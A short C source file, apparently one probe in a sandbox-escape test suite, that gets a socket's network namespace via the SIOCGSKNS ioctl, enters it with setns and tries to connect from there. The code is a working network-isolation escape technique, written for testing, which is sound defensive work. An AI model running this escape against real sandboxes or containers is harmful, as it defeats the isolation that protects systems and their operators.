/* Asks a host socket for its network namespace (SIOCGSKNS), enters that, and connects there. */
#include "attack.h"
#include <sys/ioctl.h>

static void attack(void) {
    int namespace = must(ioctl(connected(SOCK_STREAM), 0x894C /* SIOCGSKNS */), "SIOCGSKNS");
    must(setns(namespace, CLONE_NEWNET), "setns");
    reach(fresh(SOCK_STREAM));
}
